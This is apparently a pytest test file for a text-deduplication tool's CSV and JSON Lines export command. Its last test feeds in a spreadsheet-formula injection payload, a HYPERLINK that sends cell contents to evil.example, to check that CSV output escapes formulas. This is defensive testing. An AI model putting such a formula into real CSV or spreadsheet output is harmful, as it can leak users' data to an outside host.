"""``dedupe export``: findings, articles and reuse passages as JSON Lines or CSV."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import FURNITURE, WIRE, corpus

from dedupe import Tracker
from dedupe.cli import EXPORT_COLUMNS, cli


@pytest.fixture
def db(tmp_path: Path) -> str:
    path = str(tmp_path / "store.db")
    with Tracker(path) as t:
        t.add_many(corpus())
    return path


def export(*args: str) -> str:
    r = CliRunner().invoke(cli, ["export", *args], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return r.stdout


def test_findings_as_json_lines(db: str) -> None:
    rows = [json.loads(x) for x in export("--db", db).splitlines()]
    assert all(list(r) == list(EXPORT_COLUMNS["findings"]) for r in rows)
    with Tracker(db) as t:
        assert len(rows) == sum(len(r.findings) for r in t.results())
        texts = {a.id: a.text for a in t.store.articles()}
    for r in rows:
        assert texts[r["article"]][r["start"] : r["end"]] == r["text"]
    furniture = [r for r in rows if r["text"] == FURNITURE]
    assert {(r["article"], r["verdict"], r["rule"]) for r in furniture} == {
        ("a1", "boilerplate", "recurrence"),
        ("a2", "boilerplate", "recurrence"),
        ("a3", "boilerplate", "recurrence"),
    }
    (copied,) = [r for r in rows if r["article"] == "c1" and r["verdict"] == "reused"]
    assert copied["text"] == WIRE
    assert (copied["matched_article"], copied["matched_outlet"]) == ("b1", "b.example")
    assert copied["similarity"] == 1.0
    assert copied["published"] == "2024-05-05T00:00:00+00:00"


def test_findings_as_csv_read_back(db: str) -> None:
    out = export("--db", db, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == list(EXPORT_COLUMNS["findings"])
    as_json = [json.loads(x) for x in export("--db", db).splitlines()]
    assert len(rows) == len(as_json)
    assert [r["text"] for r in rows] == [r["text"] for r in as_json]
    assert rows[0]["similarity"] in ("", str(as_json[0]["similarity"]))


def test_articles_and_reuse(db: str, tmp_path: Path) -> None:
    arts = {
        r["id"]: r for r in map(json.loads, export("--db", db, "--what", "articles").splitlines())
    }
    assert sorted(arts) == ["a1", "a2", "a3", "b1", "c1"]
    assert arts["a1"]["boilerplate"] == 1
    assert arts["a1"]["removed_characters"] > len(FURNITURE)
    assert arts["c1"]["reused"] == 1 and arts["c1"]["removed_characters"] == 0
    out = tmp_path / "reuse.csv"
    export("--db", db, "--what", "reuse", "--format", "csv", "-o", str(out))
    (passage,) = list(csv.DictReader(out.open(encoding="utf-8")))
    assert (passage["source"], passage["target"]) == ("b1", "c1")
    assert (passage["source_outlet"], passage["target_outlet"]) == ("b.example", "c.example")
    assert passage["sentences"] == "1"


def test_export_is_byte_for_byte_repeatable(db: str) -> None:
    assert export("--db", db, "--format", "csv") == export("--db", db, "--format", "csv")


def test_export_needs_a_store(tmp_path: Path) -> None:
    r = CliRunner().invoke(cli, ["export", "--db", str(tmp_path / "none.db")])
    assert r.exit_code == 1
    assert "no such store" in r.stderr


def test_csv_text_never_runs_as_a_spreadsheet_formula(tmp_path: Path) -> None:
    path = str(tmp_path / "f.db")
    formula = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
    with Tracker(path) as t:
        t.add({"id": "@x1", "outlet": "+outlet", "text": f"{formula}\n\n-1 is a number here."})
    rows = list(csv.DictReader(io.StringIO(export("--db", path, "--format", "csv"))))
    cells = [v for r in rows for v in r.values() if v]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells)
    assert {r["text"] for r in rows} == {"'" + formula, "'-1 is a number here."}
    assert {r["article"] for r in rows} == {"'@x1"}
    raw = list(csv.DictReader(io.StringIO(export("--db", path, "--format", "csv", "--raw"))))
    assert {r["text"] for r in raw} == {formula, "-1 is a number here."}
    # JSON Lines keeps text exactly as read
    assert {json.loads(x)["text"] for x in export("--db", path).splitlines()} == {
        formula,
        "-1 is a number here.",
    }
